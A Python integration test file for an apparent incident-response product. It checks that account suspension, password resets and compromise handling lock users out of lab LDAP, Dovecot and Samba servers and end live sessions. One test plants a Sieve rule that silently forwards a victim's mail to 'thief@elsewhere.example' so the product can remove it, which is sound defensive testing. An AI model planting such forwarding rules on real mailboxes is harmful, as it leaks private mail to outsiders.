"""Locking people out, end to end: a real directory, a real mail server that asks it, and the product's own verbs.

A lock in the directory alone leaves a live session open, and a kick alone lets the person sign in again: only both, in that order,
lock somebody out.
"""

import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime

import pytest
from imapclient.exceptions import LoginError

from labs.dovecot import Dovecot
from labs.openldap import OpenLdap
from labs.samba import PASSWORD, Samba
from watchfloor.access.contracts import Actor, Permission
from watchfloor.connectors.connections import add_connection
from watchfloor.identities.models import Account, DirectoryPerson
from watchfloor.response import queueing, services
from watchfloor.response.accounts.engine import work_accounts
from watchfloor.response.accounts.freezing import freeze_accounts
from watchfloor.response.accounts.passwords import show_passwords
from watchfloor.response.accounts.systems import systems_of
from watchfloor.response.contracts import People, RemediationStatus
from watchfloor.response.models import Remediation
from watchfloor.response.progress import begin, finish

pytestmark = [pytest.mark.lab, pytest.mark.slow]

ADA = "ada@corp.example"
MAX = Actor("person:1", "Max", frozenset(Permission))
SIEVE = "plugin {\n  sieve = file:~/sieve;active=~/.dovecot.sieve\n}\n"
CACHE_SECONDS = 600
"""Dovecot trusts a password it saw for so long, as many do for speed; a lock must not wait for it."""


@pytest.fixture(scope="module")
def ldap() -> Iterator[OpenLdap]:
    with OpenLdap(people=["ada", "max"]) as server:
        yield server


@pytest.fixture(scope="module")
def mail(ldap: OpenLdap) -> Iterator[Dovecot]:
    with Dovecot(
        users=[ADA, "max@corp.example"],
        ldap=f"ldap://127.0.0.1:{ldap.port}",
        ldap_base=ldap.suffix,
        ldap_user=(ldap.service, ldap.service_password),
        cache=CACHE_SECONDS,
        more=SIEVE,
    ) as server:
        yield server


@pytest.fixture
def connected(db: None, monkeypatch: pytest.MonkeyPatch, ldap: OpenLdap, mail: Dovecot) -> None:
    """Both are connections of the product; the queue is asked, and the test does what the worker would."""
    monkeypatch.setattr(queueing, "enqueue", lambda *arguments, id: None)
    add_connection(by=MAX, name="corp-ldap", kind="openldap", settings=ldap.settings(act="lock and reset"))
    settings = {
        "host": "127.0.0.1",
        "port": str(mail.imap_port),
        "security": "none",
        "master_user": mail.master,
        "master_password": mail.master_password,
        "doveadm_url": f"http://127.0.0.1:{mail.doveadm_port}/doveadm/v1",
        "doveadm_key": mail.api_key,
    }
    add_connection(by=MAX, name="mail", kind="dovecot", settings=settings)


@pytest.fixture
def ada(connected: None, ldap: OpenLdap) -> int:
    """Ada as the directory knows her, her password as it was in the beginning."""
    with ldap.administrator() as session:
        session.search(ldap.dn("ada"), "(objectClass=*)", attributes=["entryUUID"])
        key = session.response[0]["attributes"]["entryUUID"]
        session.modify(ldap.dn("ada"), {"userPassword": [("MODIFY_REPLACE", ["pw"])]})
    return person("Ada", "corp-ldap", key if isinstance(key, str) else key[0], "OpenLDAP", dn=ldap.dn("ada"))


def person(name: str, source: str, key: str, provider: str, **names: str) -> int:
    now = datetime.now(UTC)
    address = f"{name.lower()}@corp.example"
    made = DirectoryPerson.objects.create(address=address, name=name, source=source, imported_at=now)
    Account.objects.create(
        person=made, source=source, key=key, provider=provider, name=name.lower(), upn=address, mail=address,
        first_seen_at=now, seen_at=now, **names,
    )  # fmt: skip
    return made.pk


def acted(action: str, pk: int, *, options: tuple[str, ...] = ()) -> Remediation:
    """Start it and do what the worker does; completed."""
    aimed = People((pk,), options=options)
    one = services.start(by=MAX, name=f"{action} in a story", reason="phished", action=action, targets=aimed)
    return worked(one)


def worked(one: Remediation) -> Remediation:
    begin(one.pk, now=datetime.now(UTC))
    one.refresh_from_db()
    freeze_accounts(one, systems=systems_of(one), now=datetime.now(UTC))
    while work_accounts(one, systems=systems_of(one), clock=lambda: datetime.now(UTC)):
        pass
    done = finish(one.pk, now=datetime.now(UTC))
    assert done.status == RemediationStatus.COMPLETED, said(done)
    assert not done.failed, said(done)
    return done


def said(done: Remediation) -> list[tuple[str, str, str, str, list[str]]]:
    return [(line.system, line.verb, line.status, line.why, line.words) for line in done.account_lines.all()]


def is_open(session: object) -> bool:
    try:
        session.noop()  # type: ignore[attr-defined]
    except (OSError, session.AbortError):  # type: ignore[attr-defined]
        return False
    return True


def signs_in(mail: Dovecot, password: str = "pw") -> bool:
    try:
        mail.login(ADA, password).logout()
    except LoginError:
        return False
    return True


def test_suspend_ends_a_live_session_and_refuses_the_next_sign_in_and_enable_brings_it_back(
    ada: int, ldap: OpenLdap, mail: Dovecot
) -> None:
    session, other = mail.login(ADA), mail.login("max@corp.example")
    assert is_open(session)
    began, processor = time.monotonic(), time.process_time()
    done = acted("suspend", ada)
    took = time.monotonic() - began
    print(f"locked, kicked and verified in {took:.2f} s, {time.process_time() - processor:.2f} s of our processor time")
    assert not is_open(session)
    assert not signs_in(mail)
    assert time.monotonic() - began < 2 + 3  # refused at once; the bound of 2 s is measured by the benchmark, unloaded
    assert is_open(other)
    assert ldap.bind(ldap.dn("ada"), "pw") == ("invalidCredentials", bytes.fromhex("3003810101"))
    assert [(line.system, line.verb, line.status, line.verified) for line in done.account_lines.order_by("phase")] == [
        ("corp-ldap", "suspend", "changed", True),
        ("mail", "end-sessions", "changed", True),
    ]
    mail.admin(ADA).logout()  # the analyst still gets in to clean up
    acted("enable", ada)
    assert signs_in(mail)
    other.logout()


def test_an_undo_brings_the_account_back_as_it_was(ada: int, ldap: OpenLdap, mail: Dovecot) -> None:
    done = acted("suspend", ada)
    assert not signs_in(mail)
    worked(services.undo(by=MAX, remediation_id=done.pk, reason="the wrong Ada"))
    assert signs_in(mail)
    done.refresh_from_db()
    assert done.status == RemediationStatus.UNDONE


def test_requiring_sign_in_again_ends_sessions_and_whoever_knows_the_password_returns(ada: int, mail: Dovecot) -> None:
    sessions = [mail.login(ADA), mail.login(ADA)]
    done = acted("require-sign-in", ada)
    assert [is_open(session) for session in sessions] == [False, False]
    assert done.account_lines.get(system="mail").words == ["2 sessions ended"]
    assert signs_in(mail)


def test_a_forced_reset_ends_the_old_password_and_the_temporary_one_is_shown_once(ada: int, mail: Dovecot) -> None:
    session = mail.login(ADA)
    done = acted("reset-password", ada, options=("sign-out",))
    assert not is_open(session)
    assert not signs_in(mail)
    (shown,) = show_passwords(by=MAX, remediation_id=done.pk, now=datetime.now(UTC))
    assert signs_in(mail, shown.password)


def test_the_whole_playbook_of_a_compromise_in_one_action(ada: int, ldap: OpenLdap, mail: Dovecot) -> None:
    from watchfloor.connectors.selectors import account_actions

    doveadm = account_actions()["mail"].doveadm  # type: ignore[attr-defined]
    script = 'require "copy";\nredirect :copy "thief@elsewhere.example";\n'
    doveadm.call("sievePut", user=ADA, scriptname="main", file=script, activate=True)
    session = mail.login(ADA)
    done = acted("confirm-compromised", ada, options=("suspend", "mail-traces"))
    assert not is_open(session)
    assert not signs_in(mail)
    assert doveadm.call("sieveList", user=ADA)[0]["active"] == ""
    risk = DirectoryPerson.objects.get(pk=ada).risk
    assert (risk.level, risk.state, risk.state_by) == ("high", "confirmedCompromised", "Max")
    worked(services.undo(by=MAX, remediation_id=done.pk, reason="it was a drill"))
    assert signs_in(mail)
    assert {row["script"]: row["active"] for row in doveadm.call("sieveList", user=ADA)}["main"] == "ACTIVE"


def test_a_lock_alone_leaves_the_session_open_which_is_why_suspend_kicks(
    ada: int, ldap: OpenLdap, mail: Dovecot
) -> None:
    session = mail.login(ADA)
    with ldap.administrator() as admin:
        admin.modify(ldap.dn("ada"), {"pwdAccountLockedTime": [("MODIFY_REPLACE", ["000001010000Z"])]})
    assert is_open(session)
    assert signs_in(mail)  # Dovecot's cache still trusts the password it saw
    done = acted("suspend", ada)
    assert done.account_lines.get(verb="suspend").status == "already"
    assert not is_open(session)
    assert not signs_in(mail)
    acted("enable", ada)


@pytest.fixture(scope="module")
def samba() -> Iterator[Samba]:
    with Samba() as server:
        yield server


@pytest.fixture
def bob(db: None, monkeypatch: pytest.MonkeyPatch, samba: Samba) -> tuple[int, Callable[[str], str]]:
    """Bob of the domain, and what its controller answers to his password: "" or the sub-code of the refusal."""
    from uuid import UUID

    monkeypatch.setattr(queueing, "enqueue", lambda *arguments, id: None)
    settings = {
        "host": samba.address, "port": "636", "security": "tls", "ca_file": str(samba.ca_file), "base_dn": "DC=corp,DC=example",
        "bind_dn": samba.admin_user, "password": samba.admin_password, "act": "yes",
    }  # fmt: skip
    add_connection(by=MAX, name="corp-ad", kind="active_directory", settings=settings)
    dn = samba.add_person("bob")
    with samba.admin() as session:
        session.search(dn, "(objectClass=*)", "BASE", attributes=["objectGUID"])
        guid = str(UUID(bytes_le=session.response[0]["raw_attributes"]["objectGUID"][0]))

    def refusal(password: str = PASSWORD) -> str:
        bound = samba.bound("bob@corp.example", password)
        return "" if bound.bound else bound.result["message"].partition("data ")[2].partition(",")[0]

    return person("Bob", "corp-ad", guid, "ActiveDirectory", dn=dn), refusal


def test_in_a_domain_the_bind_fails_with_533_and_enable_restores_it_and_a_reset_asks_for_a_new_password(
    bob: tuple[int, Callable[[str], str]],
) -> None:
    pk, refusal = bob
    assert refusal(PASSWORD) == ""
    done = acted("suspend", pk)
    assert refusal(PASSWORD) == "533"
    assert done.account_lines.get().words == ["userAccountControl 512 became 514"]
    acted("enable", pk)
    assert refusal(PASSWORD) == ""
    done = acted("reset-password", pk)
    (shown,) = show_passwords(by=MAX, remediation_id=done.pk, now=datetime.now(UTC))
    assert (refusal(PASSWORD), refusal(shown.password)) == ("52e", "773")
